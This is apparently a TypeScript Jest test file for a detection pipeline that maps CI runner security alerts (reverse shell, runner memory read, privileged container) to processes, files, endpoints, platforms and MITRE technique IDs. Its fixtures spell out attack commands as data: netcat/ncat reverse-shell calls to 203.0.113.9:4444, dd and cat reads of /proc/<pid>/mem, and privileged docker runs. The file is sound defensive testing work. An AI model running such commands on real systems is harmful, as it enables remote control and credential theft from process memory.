import { readFileSync } from 'node:fs';
import { describe, expect, it, test } from '@jest/globals';
import type { Json, JsonObject } from '../../src/contracts/types.ts';
import { loadMappings } from '../../src/mapping/load.ts';
import { profilesOf } from '../../src/mapping/profiles.ts';
import { payloadOf, read } from './harness.ts';

const shipped = profilesOf(loadMappings());
const inputs = (name: string) =>
  readFileSync(new URL(`./inputs/${name}`, import.meta.url), 'utf8')
    .trim()
    .split('\n');
const bash = { pid: '10', exe: '/usr/bin/bash', arguments: ['bash', 'run.sh'] };

describe('of several processes, the one that did it', () => {
  const [memory = '', container = ''] = inputs('process-order.ndjson');

  it('reads the memory', () => {
    const { file, process, process_events } = read(memory);
    expect([file?.path, process?.pid, process?.name]).toEqual(['/proc/1798/mem', 2068, 'python3']);
    expect(process_events?.map(({ pid }) => pid)).toEqual([10, 2068]);
  });

  it('starts the container', () => {
    const detection = read(container);
    expect(detection.container).toMatchObject({ runtime: 'docker', image_name: 'alpine', image_tags: ['3'] });
    expect(detection.process?.executable).toBe('/usr/bin/docker');
  });

  test.each<[string, JsonObject[], string | undefined, number]>([
    [
      'when the agent does not say which',
      [bash, { pid: '11', exe: '/usr/bin/dd', arguments: ['dd', 'if=/proc/77/mem'] }],
      '/proc/77/mem',
      11,
    ],
    [
      'as one text',
      [bash, { pid: '11', exe: '/usr/bin/dd', arguments: 'dd if=/proc/77/task/78/mem of=x' }],
      '/proc/77/task/78/mem',
      11,
    ],
    [
      'but not a process that only started it',
      [
        { pid: '11', exe: '/usr/bin/sudo', arguments: ['sudo', 'cat', '/proc/77/mem'] },
        { pid: '12', exe: '/usr/bin/cat', arguments: ['cat', '/proc/77/mem'] },
        bash,
      ],
      '/proc/77/mem',
      12,
    ],
    [
      'but not another file of a process',
      [bash, { pid: '11', exe: '/usr/bin/cat', arguments: ['cat', '/proc/77/mem.txt'] }],
      undefined,
      10,
    ],
  ])('reads the memory, %s', (_, process_events, path, pid) => {
    for (const id of ['Runner-Worker-Memory-Read', 'Suspicious-Process-Call']) {
      const { file, process } = read(payloadOf(id, { process_events }), shipped);
      expect([file?.path, process?.pid]).toEqual([path, pid]);
    }
    expect(read(payloadOf('Suspicious-Process-Call', { process_events }), shipped).threat?.ids).toEqual(
      path === undefined ? undefined : ['T1003.007'],
    );
    expect(read(payloadOf('Privileged-Container', { process_events })).file).toBeUndefined();
  });

  test.each<[string, [string, boolean][], string, string]>([
    [
      'another file was blocked',
      [
        ['/etc/passwd', true],
        ['/proc/77/mem', false],
      ],
      '/proc/77/mem',
      'allowed',
    ],
    [
      'one of two reads was blocked',
      [
        ['/proc/77/mem', true],
        ['/proc/78/mem', false],
      ],
      '/proc/78/mem',
      'allowed',
    ],
    [
      'both reads were blocked',
      [
        ['/proc/77/mem', true],
        ['/proc/78/mem', true],
      ],
      '/proc/77/mem',
      'blocked',
    ],
    [
      'only the other file was read',
      [
        ['/etc/passwd', false],
        ['/proc/77/mem', true],
      ],
      '/proc/77/mem',
      'blocked',
    ],
  ])('reads the memory, with the outcome of that read: %s', (_, touched, path, action) => {
    const process_events = touched.map(([target_file, enforced_protection]) => ({
      exe: 'python3',
      armour_event_process: { file_info: { target_file }, enforced_protection },
    }));
    const detection = read(payloadOf('Runner-Worker-Memory-Read', { process_events }), shipped);
    expect([detection.file?.path, detection.action]).toEqual([path, action]);
  });

  test.each<[string, string[]]>([
    ['another container', ['docker', 'run', '--rm', 'hello-world']],
    ['a network', ['docker', 'network', 'create', 'ci-net']],
  ])('starts the privileged container, not %s', (_, args) => {
    const docker = (pid: string, ...rest: string[]) => ({ pid, exe: '/usr/bin/docker', arguments: rest });
    const process_events = [
      docker('8', ...args),
      docker('9', 'docker', 'run', '--privileged=true', 'alpine:3'),
    ];
    const { container, process } = read(payloadOf('Privileged-Container', { process_events }));
    expect([container?.image_name, process?.pid]).toEqual(['alpine', 9]);
  });

  it('connects', () => {
    const nc = { pid: '11', exe: '/usr/bin/nc', arguments: ['nc', '203.0.113.9', '4444'] };
    const { endpoint, process } = read(payloadOf('Reverse-Shell', { process_events: [bash, nc] }));
    expect([endpoint?.ip, endpoint?.port, process?.pid]).toEqual(['203.0.113.9', 4_444, 11]);
  });

  it('is the first when none shows anything, and a container started through sudo is read', () => {
    const sudo = { pid: '9', exe: '/usr/bin/sudo', arguments: ['sudo', '-E', 'podman', 'run', 'alpine:3'] };
    expect(read(payloadOf('Reverse-Shell', { process_events: [bash, bash] })).process?.pid).toBe(10);
    const alone = read(payloadOf('Privileged-Container', { process_events: [bash, sudo] }));
    expect(alone.container).toMatchObject({ runtime: 'podman', image_name: 'alpine' });
    expect(alone.process?.pid).toBe(9);
  });
});

describe('arguments start with the program', () => {
  const argsOf = (exe: string, ...args: Json[]) =>
    read(payloadOf('Suspicious-Process-Call', { process_events: [{ exe, arguments: args }] })).process?.args;

  test.each<[string, string[]]>([
    ['/usr/bin/python3', ['tj.py']],
    ['/usr/bin/docker', ['run', 'alpine']],
    ['/bin/nc', ['203.0.113.9', '4444']],
    ['/usr/bin/curl', ['-s', 'https://a.example']],
    [String.raw`C:\tools\ncat.exe`, ['203.0.113.9', '4444']],
    // A part of the name, or more than the name, does not count.
    ['/usr/bin/python3', ['python3-exploit.py']],
    ['/usr/bin/curl', ['rl']],
    ['/usr/bin/node', ['no']],
    ['/usr/bin/docker-compose', ['compose', 'up']],
    ['/usr/bin/sh', ['sh.txt']],
    ['/usr/bin/python3', ['']],
  ])('even when the agent left it out: %s %j', (exe, args) => {
    expect(argsOf(exe, ...args)).toEqual([exe, ...args]);
  });

  test.each<[string, string[]]>([
    ['/usr/bin/docker', ['docker', 'run']],
    ['/usr/bin/python3.12', ['python3', 'x.py']],
    ['/usr/bin/nc.openbsd', ['nc', 'h', '1']],
    ['/usr/bin/dash', ['sh', '-c', 'x']],
    ['/usr/bin/bash', ['-bash']],
    ['/usr/bin/mawk', ['awk', '{}']],
    ['/usr/bin/ncat', ['nc', 'h', '1']],
    ['/usr/bin/nc.openbsd', ['netcat', 'h', '1']],
    ['/usr/bin/nodejs', ['node', 'x.js']],
    ['/usr/bin/python', ['python3.11', 'x.py']],
    ['/usr/bin/x86_64-linux-gnu-gcc-12', ['gcc', 'x.c']],
    [String.raw`C:\tools\nc64.exe`, ['nc', 'h', '1']],
    ['/bin/busybox', ['wget', 'x']],
    ['/opt/app', ['/opt/app', 'x']],
    [String.raw`C:\Windows\System32\cmd.exe`, ['cmd', '/c', 'x']],
    ['powershell.exe', ['PowerShell', '-c', 'x']],
  ])('which may have another name: %s %j', (exe, args) => {
    expect(argsOf(exe, ...args)).toEqual(args);
  });
});

describe('command lines', () => {
  const lineOf = (exe: string, ...args: Json[]) =>
    read(payloadOf('Reverse-Shell', { process_events: [{ exe, arguments: args }] })).process?.command_line;
  const cmd = String.raw`C:\a\cmd.exe`;

  test.each<[string, string[], string]>([
    ['/bin/sh', ['sh', '-c', 'a b', "it's", ''], `sh -c 'a b' 'it'\\''s' ''`],
    [cmd, ['cmd', '/c', 'a b', "it's", ''], `cmd /c "a b" it's ""`],
    [
      cmd,
      ['cmd', String.raw`D:\a\b`, String.raw`C:\Program Files\x` + '\\'],
      String.raw`cmd D:\a\b "C:\Program Files\x\\"`,
    ],
    [cmd, ['cmd', 'say "hi"', 'a\\"b'], String.raw`cmd "say \"hi\"" "a\\\"b"`],
  ])('%s %j', (exe, args, line) => {
    expect(lineOf(exe, ...args)).toBe(line);
  });
});

describe('the platform', () => {
  const on = (id: string, fields: JsonObject) => {
    const { platform, threat } = read(payloadOf(id, fields), shipped);
    return [platform, ...(threat?.ids ?? [])];
  };
  const running = (exe: string, over: JsonObject = {}) => ({ process_events: [{ exe, ...over }] });

  test.each<[string, JsonObject, (string | undefined)[]]>([
    ['Reverse-Shell', running('/usr/bin/bash'), [undefined, 'T1059.004']],
    [
      'Reverse-Shell',
      running('/usr/bin/bash', { working_directory: '/home/runner/work/a' }),
      ['linux', 'T1059.004'],
    ],
    [
      'Reverse-Shell',
      running('/bin/zsh', { working_directory: '/Users/runner/work/a' }),
      ['macos', 'T1059.004'],
    ],
    [
      'Reverse-Shell',
      running(String.raw`C:\tools\ncat.exe`, { arguments: ['ncat', 'h', 'x', '-e', 'cmd.exe'] }),
      ['windows', 'T1059.003'],
    ],
    ['Reverse-Shell', running('powershell.exe'), ['windows', 'T1059.001']],
    ['Reverse-Shell', running(String.raw`D:\a\tool.exe`), ['windows', 'T1059']],
    ['Reverse-Shell', {}, [undefined, 'T1059.004']],
    ['Runner-Worker-Memory-Read', { file: '/proc/1/mem' }, ['linux', 'T1003.007']],
    ['Runner-Worker-Memory-Read', running('/Users/runner/x'), ['macos', 'T1003']],
    ['Runner-Worker-Memory-Read', running(String.raw`\\host\share\x`), ['windows', 'T1003']],
    ['Source-Code-Overwritten', { path: String.raw`D:\a\b\c.js` }, ['windows', 'T1195.002']],
    ['Source-Code-Overwritten', { path: 'src/c.js' }, [undefined, 'T1195.002']],
    [
      'New-Outbound-Network-Call',
      { endpoint: 'a.example:1', tool: { name: 'curl.exe' } },
      ['windows', 'T1071'],
    ],
    ['New-Outbound-Network-Call', { endpoint: 'a.example:1', tool: { name: 'curl' } }, [undefined, 'T1071']],
  ])('of %s with %j', (id, fields, expected) => {
    expect(on(id, fields)).toEqual(expected);
  });

  it('is Windows for our own inputs, none of which has a Unix technique', () => {
    const found = inputs('synthetic.ndjson')
      .map((line) => read(line, shipped))
      .filter(({ platform }) => platform === 'windows');
    expect(found.map(({ id }) => id)).toEqual(['Runner-Worker-Memory-Read', 'Reverse-Shell']);
    expect(found.flatMap(({ threat }) => threat?.ids)).toEqual(['T1003', 'T1059.003', 'T1095']);
    expect(found[1]?.endpoint).toMatchObject({ address: '198.51.100.7', port: 4_444 });
  });
});
